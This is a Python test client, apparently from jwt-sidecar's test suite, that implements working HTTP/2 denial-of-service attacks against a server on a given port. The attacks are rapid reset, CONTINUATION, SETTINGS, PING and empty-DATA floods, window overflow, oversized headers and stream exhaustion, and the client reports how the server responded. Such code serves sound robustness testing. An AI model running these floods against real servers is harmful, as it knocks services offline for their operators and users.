#!/usr/bin/python3
"""Raw HTTP/2 abuse client (prior-knowledge h2c over plain TCP) for jwt-sidecar's tests.

Run with Debian's /usr/bin/python3 (python3-h2). h2's H2Connection (client side) encodes the
well-formed frames; what h2 refuses to send is written as raw frame bytes. Incoming frames
are parsed with h2's own layers (hyperframe, hpack), which works whatever the peer sends, and
fed to the H2Connection while it accepts them (its first complaint is "h2_error"). The client
answers SETTINGS and PING itself and opens its receive windows fully up front.

Usage:
    h2_attack.py --port PORT --attack NAME [--count N] [--path /orders] [--method GET]
                 [--authority 127.0.0.1] [--header 'name: value' ...] [--omit :path ...]
                 [--raw] [--host 127.0.0.1]
                 [--body TEXT] [--grpc] [--deadline SECONDS] [--idle-ms MS] [--frame-size BYTES]
Attacks (default --count in brackets):
    rapid_reset          N requests, each followed at once by RST_STREAM(CANCEL) [2000]
    continuation_flood   HEADERS without END_HEADERS, then N CONTINUATION frames of
                         --frame-size bytes (default 16384; 0 = empty frames) [10000]
    settings_flood       N SETTINGS frames with one setting each [10000]
    ping_flood           N PING frames without waiting for ACKs [10000]
    empty_data_flood     one POST stream, then N empty DATA frames without END_STREAM [10000]
    window_overflow      WINDOW_UPDATE(stream 0, 2^31-1) twice (--count ignored)
    header_list_too_big  one request whose header list exceeds N bytes (RFC 9113 sizes) [65536]
    many_streams         N concurrent streams at once, whatever the peer's limit [200]
Requests use --method (default GET; POST for empty_data_flood). --body TEXT adds one DATA
frame to the requests of rapid_reset, header_list_too_big and many_streams; --grpc makes them
gRPC calls (POST, content-type application/grpc, te: trailers, the body as one length-prefixed
message). After sending, the client reads until the peer closes the connection, or sent
GOAWAY 0.5 s ago, or every stream expecting an answer (empty_data_flood, header_list_too_big,
many_streams) has ended, or nothing came for --idle-ms (default 0 = off), or --deadline
(default 10 s from the start) passes.

Stdout: one JSON line
    {"goaway": bool, "error_code": int|null, "error_name": str|null, "last_stream_id": int|null,
     "debug": GOAWAY debug text|null, "closed": bool (the peer closed or reset the TCP
     connection), "statuses": {"200": n, ...} (final responses), "grpc_statuses": {"0": n, ...}
     (grpc-status in any header block), "resets": {"CANCEL": n, ...} (RST_STREAM received),
     "frames_sent": int (frames fully written, the client's SETTINGS and ACKs included),
     "bytes_sent": int (preface included), "frames_received": {"HEADERS": n, ...},
     "streams_opened": int (streams the attack created), "elapsed_ms": int,
     "h2_error": str|null, "notes": [str] (fallbacks to raw frames, parse problems)}
Exit status 0 when the JSON was printed; 2 on bad arguments or when the TCP connect fails.
"""

import argparse
import collections
import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.settings
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Decoder
from hyperframe.frame import Frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TYPES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
         "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
DATA, HEADERS, _, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(len(TYPES)))
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
MAX_WINDOW = 2 ** 31 - 1
DEFAULT_COUNTS = {"rapid_reset": 2000, "continuation_flood": 10000, "settings_flood": 10000,
                  "ping_flood": 10000, "empty_data_flood": 10000, "window_overflow": 2,
                  "header_list_too_big": 65536, "many_streams": 200}


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return "UNKNOWN_0x%x" % code


def raw_frame(ftype, flags, stream_id, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([ftype, flags])
            + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload)


def hpack_int(value, prefix_bits):
    """RFC 7541 5.1 integer with an N-bit prefix (the bits above it zero)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(out + bytes([value]))


def hpack_literal(name, value):
    """A literal field without indexing, new name, no Huffman: it leaves the peer's dynamic
    table alone, so raw header blocks mix freely with h2's own encoder's."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def bump(counts, key):
    counts[key] = counts.get(key, 0) + 1


class Attack:
    def __init__(self, args):
        self.args = args
        self.started = time.monotonic()
        self.deadline = self.started + args.deadline
        self.sock = socket.create_connection((args.host, args.port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.out, self.inbuf = bytearray(), bytearray()
        self.closed = False
        self.bytes_sent = self.frames_sent = 0
        self.queued, self.frame_ends = 0, collections.deque()  # for frames_sent
        self.next_stream, self.streams_opened = 1, 0
        self.raw_streams = set()          # streams opened with raw frames (unknown to h2)
        self.expect, self.finished = set(), set()  # streams awaiting an end / ended by peer
        self.statuses, self.grpc_statuses, self.resets, self.received = {}, {}, {}, {}
        self.goaway, self.goaway_at = None, None   # (error_code, last_stream_id, debug)
        self.last_rx = self.last_step = time.monotonic()
        self.decoder = Decoder(max_header_list_size=1 << 26)
        self.hpack_broken = False
        self.block = None       # [stream, bytearray, end_stream, is_response] to END_HEADERS
        self.h2_error, self.h2_fed, self.h2_send = None, True, not args.raw
        self.notes = []
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values={
            SettingCodes.ENABLE_PUSH: 0, SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW,
            SettingCodes.MAX_HEADER_LIST_SIZE: 1 << 26})
        self.conn.decoder.max_header_list_size = 1 << 26
        self.conn.initiate_connection()
        if args.attack != "window_overflow":  # that attack overflows the default window
            self.conn.increment_flow_control_window(MAX_WINDOW - 65535)
        self.queue(self.conn.data_to_send())

    # ---- outgoing frames: encoded by h2 while it agrees, raw from then on ----------------

    def encode(self, what, call, raw):
        """h2's bytes for call(), or raw() once h2 has refused something."""
        if self.h2_send:
            try:
                call()
                return self.conn.data_to_send()
            except Exception as error:  # a limit or state h2 enforces
                self.conn.data_to_send()
                self.h2_send = False
                self.notes.append("raw frames after h2 refused %s: %s: %s"
                                  % (what, type(error).__name__, error))
        return raw()

    def request_headers(self, method=None):
        args = self.args
        headers = [(":method", method or args.method), (":scheme", "http"),
                   (":authority", args.authority), (":path", args.path)]
        headers = [(n, v) for n, v in headers if n not in args.omit]
        if args.grpc:
            headers += [("content-type", "application/grpc"), ("te", "trailers")]
        for line in args.header:
            name, _, value = line.partition(":")
            name = name.strip() if args.raw else name.strip().lower()  # --raw sends it as given
            headers.append((name, value.strip()))
        return headers

    def new_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        self.streams_opened += 1
        return sid

    def raw_headers(self, sid, headers, end_stream):
        self.raw_streams.add(sid)
        block = b"".join(hpack_literal(n, v) for n, v in headers)
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
        frames = bytearray()
        for i, chunk in enumerate(chunks):
            flags = (END_HEADERS if i == len(chunks) - 1 else 0)
            flags |= END_STREAM if i == 0 and end_stream else 0
            frames += raw_frame(HEADERS if i == 0 else CONTINUATION, flags, sid, chunk)
        return bytes(frames)

    def open_stream(self, headers, end_stream, expect_answer):
        sid = self.new_stream()
        if expect_answer:
            self.expect.add(sid)
        return sid, self.encode("HEADERS", lambda: self.conn.send_headers(sid, headers, end_stream),
                                lambda: self.raw_headers(sid, headers, end_stream))

    def request(self, expect_answer, headers=None):
        """A whole request: HEADERS, and with --body / --grpc one DATA frame ending it."""
        body = self.args.body.encode() if self.args.body is not None else None
        if self.args.grpc:
            body = b"\0" + len(body or b"").to_bytes(4, "big") + (body or b"")
        sid, frames = self.open_stream(headers or self.request_headers(), body is None,
                                       expect_answer)
        if body is not None:
            frames += self.encode("DATA", lambda: self.conn.send_data(sid, body, True),
                                  lambda: raw_frame(DATA, END_STREAM, sid, body))
        return sid, frames

    # ---- the attacks: generators of outgoing frames --------------------------------------

    def rapid_reset(self, n):
        for _ in range(n):
            sid, frames = self.request(False)
            yield frames + self.encode(
                "RST_STREAM", lambda: self.conn.reset_stream(sid, ErrorCodes.CANCEL),
                lambda: raw_frame(RST_STREAM, 0, sid, struct.pack(">I", ErrorCodes.CANCEL)))

    def continuation_flood(self, n):
        sid = self.new_stream()
        self.raw_streams.add(sid)
        first = b"".join(hpack_literal(k, v) for k, v in self.request_headers())
        yield raw_frame(HEADERS, END_STREAM, sid, first)  # no END_HEADERS
        size, unit = self.args.frame_size, hpack_literal("x-flood", "f" * 1000)
        pattern, offset = unit * (size // len(unit) + 2), 0
        for _ in range(n):  # one endless header block cut at arbitrary bytes
            yield raw_frame(CONTINUATION, 0, sid, pattern[offset:offset + size])
            offset = (offset + size) % len(unit)

    def settings_flood(self, n):
        setting = {SettingCodes.MAX_CONCURRENT_STREAMS: 100}
        raw = raw_frame(SETTINGS, 0, 0, struct.pack(">HI", *next(iter(setting.items()))))
        for _ in range(n):
            yield self.encode("SETTINGS", lambda: self.conn.update_settings(setting), lambda: raw)

    def ping_flood(self, n):
        for i in range(n):
            opaque = struct.pack(">Q", i)
            yield self.encode("PING", lambda: self.conn.ping(opaque),
                              lambda: raw_frame(PING, 0, 0, opaque))

    def empty_data_flood(self, n):
        headers = self.request_headers("POST")
        if not self.args.grpc:
            headers.append(("content-type", "application/octet-stream"))
        sid, frames = self.open_stream(headers, False, True)
        yield frames
        for _ in range(n):
            yield self.encode("DATA", lambda: self.conn.send_data(sid, b""),
                              lambda: raw_frame(DATA, 0, sid))

    def window_overflow(self, n):
        yield raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW)) * 2

    def header_list_too_big(self, n):
        headers = self.request_headers()
        size, i = sum(len(k) + len(v) + 32 for k, v in headers), 0
        while size <= n:
            headers.append(("x-pad-%05d" % i, "p" * 200))
            size += 11 + 200 + 32
            i += 1
        yield self.request(True, headers)[1]

    def many_streams(self, n):
        for _ in range(n):
            yield self.request(True)[1]

    # ---- socket pump -----------------------------------------------------------------------

    def queue(self, data):
        """Queues whole frames (the preface too), noting where each frame ends."""
        i = len(PREFACE) if data.startswith(PREFACE) else 0
        while i + 9 <= len(data):
            i += 9 + int.from_bytes(data[i:i + 3], "big")
            self.frame_ends.append(self.queued + i)
        self.queued += len(data)
        self.out += data

    def step(self, timeout):
        """One select round: reads what came, writes what is queued."""
        self.last_step = time.monotonic()
        try:
            readable, writable, _ = select.select(
                [self.sock], [self.sock] if self.out else [], [], max(timeout, 0))
            if readable:
                data = self.sock.recv(1 << 20)
                if not data:
                    self.closed = True
                    return
                self.last_rx = time.monotonic()
                self.inbuf += data
                self.parse()
            if writable and self.out:
                sent = self.sock.send(self.out[:1 << 20])
                self.bytes_sent += sent
                del self.out[:sent]
                while self.frame_ends and self.frame_ends[0] <= self.bytes_sent:
                    self.frame_ends.popleft()
                    self.frames_sent += 1
        except (BlockingIOError, InterruptedError):
            pass
        except (OSError, ValueError):  # BrokenPipe, ConnectionReset...: the peer is gone
            self.closed = True

    def flush(self, low_water):
        while not self.closed and len(self.out) > low_water and time.monotonic() < self.deadline:
            self.step(self.deadline - time.monotonic())

    # ---- incoming frames -------------------------------------------------------------------

    def parse(self):
        while len(self.inbuf) >= 9:
            end = 9 + int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < end:
                return
            raw = bytes(self.inbuf[:end])
            del self.inbuf[:end]
            self.feed_h2(raw)
            self.on_frame(raw)

    def feed_h2(self, raw):
        if self.h2_error is not None or not self.h2_fed:
            return
        if int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF in self.raw_streams:
            # h2 never saw that stream open: it would only complain, and skipping the frame
            # could leave its HPACK table behind, so h2 reads nothing more.
            self.h2_fed = False
            self.notes.append("h2 not fed after a frame on a raw-opened stream")
            return
        try:
            self.conn.receive_data(raw)
        except Exception as error:  # the peer broke a rule h2 checks
            self.h2_error = "%s: %s" % (type(error).__name__, error)
        self.conn.data_to_send()  # h2's own answers are dropped: this client answers raw

    def on_frame(self, raw):
        ftype, flags = raw[3], raw[4]
        sid = int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF
        name = TYPES[ftype] if ftype < len(TYPES) else "UNKNOWN_%d" % ftype
        bump(self.received, name)
        try:
            frame, _ = Frame.parse_frame_header(memoryview(raw[:9]))
            frame.parse_body(memoryview(raw[9:]))
        except Exception as error:
            self.notes.append("unparsable %s frame: %s" % (name, error))
            self.hpack_broken |= ftype in (HEADERS, PUSH_PROMISE, CONTINUATION)
            return
        if ftype in (HEADERS, PUSH_PROMISE):  # a header block starts
            self.block = [sid, bytearray(frame.data),
                          ftype == HEADERS and flags & END_STREAM, ftype == HEADERS]
        elif ftype == CONTINUATION and self.block is not None:
            self.block[1] += frame.data
        if ftype in (HEADERS, PUSH_PROMISE, CONTINUATION):
            if flags & END_HEADERS and self.block is not None:
                block_sid, block, end_stream, is_response = self.block
                self.block = None
                self.on_headers(bytes(block), is_response)
                if end_stream:
                    self.finished.add(block_sid)
        elif ftype == DATA and flags & END_STREAM:
            self.finished.add(sid)
        elif ftype == RST_STREAM:
            bump(self.resets, error_name(frame.error_code))
            self.finished.add(sid)
        elif ftype == SETTINGS and not flags & ACK:
            self.queue(raw_frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.queue(raw_frame(PING, ACK, 0, frame.opaque_data))
        elif ftype == GOAWAY:
            debug = bytes(frame.additional_data).decode("utf-8", "replace") or None
            self.goaway = (frame.error_code, frame.last_stream_id, debug)
            self.goaway_at = self.goaway_at or time.monotonic()

    def on_headers(self, block, is_response):
        if self.hpack_broken:
            return
        try:
            headers = self.decoder.decode(block, raw=True)
        except Exception as error:
            self.hpack_broken = True
            self.notes.append("HPACK decoding failed, later header blocks unread: %s" % error)
            return
        for name, value in headers if is_response else ():
            value = value.decode("ascii", "replace")
            if name == b":status" and not value.startswith("1"):
                bump(self.statuses, value)
            elif name == b"grpc-status":
                bump(self.grpc_statuses, value)

    # ---- the run ---------------------------------------------------------------------------

    def run(self):
        for frames in getattr(self, self.args.attack)(self.args.count):
            if self.closed or time.monotonic() >= self.deadline:
                break
            self.queue(frames)
            if len(self.out) > 262144:  # batched writes; reads go on meanwhile
                self.flush(65536)
            elif time.monotonic() - self.last_step > 0.02:
                self.step(0)
        self.flush(0)
        idle = self.args.idle_ms / 1000.0
        while not self.closed:
            now = time.monotonic()
            if (now >= self.deadline or (self.goaway_at and now >= self.goaway_at + 0.5)
                    or (self.expect and self.expect <= self.finished and not self.out)
                    or (idle > 0 and now - self.last_rx >= idle)):
                break
            self.step(min(0.05, self.deadline - now))
        self.sock.close()

    def report(self):
        code, last, debug = self.goaway or (None, None, None)
        return {"goaway": self.goaway is not None, "error_code": code,
                "error_name": error_name(code) if code is not None else None,
                "last_stream_id": last, "debug": debug, "closed": self.closed,
                "statuses": self.statuses, "grpc_statuses": self.grpc_statuses,
                "resets": self.resets, "frames_sent": self.frames_sent,
                "bytes_sent": self.bytes_sent, "frames_received": self.received,
                "streams_opened": self.streams_opened, "h2_error": self.h2_error,
                "elapsed_ms": int((time.monotonic() - self.started) * 1000), "notes": self.notes}


def main():
    parser = argparse.ArgumentParser(description="raw HTTP/2 (h2c) abuse client for tests")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--attack", required=True, choices=sorted(DEFAULT_COUNTS))
    parser.add_argument("--count", type=int)
    parser.add_argument("--path", default="/orders")
    parser.add_argument("--method", default="GET")
    parser.add_argument("--body", help="request body (one DATA frame)")
    parser.add_argument("--grpc", action="store_true",
                        help="POST, gRPC headers, body as one length-prefixed message")
    parser.add_argument("--authority", default="127.0.0.1")
    parser.add_argument("--header", action="append", default=[], help="'name: value'")
    parser.add_argument("--raw", action="store_true",
                        help="write requests as raw frames, never through h2 (which would normalise them)")
    parser.add_argument("--omit", action="append", default=[],
                        help="a pseudo-header left out of requests (':path', ':scheme', ':authority')")
    parser.add_argument("--deadline", type=float, default=10.0, help="seconds, overall")
    parser.add_argument("--idle-ms", type=int, default=0)
    parser.add_argument("--frame-size", type=int, default=16384)
    args = parser.parse_args()
    if args.grpc and args.method == "GET":
        args.method = "POST"
    if args.count is None:
        args.count = DEFAULT_COUNTS[args.attack]
    if args.count < 0 or not 0 <= args.frame_size < 1 << 24:
        parser.error("--count and --frame-size must be >= 0 (frame size < 2^24)")
    try:
        attack = Attack(args)
    except OSError as error:
        sys.stderr.write("h2_attack: cannot connect to %s:%d: %s\n" % (args.host, args.port, error))
        return 2
    attack.run()
    sys.stdout.write(json.dumps(attack.report(), sort_keys=True) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
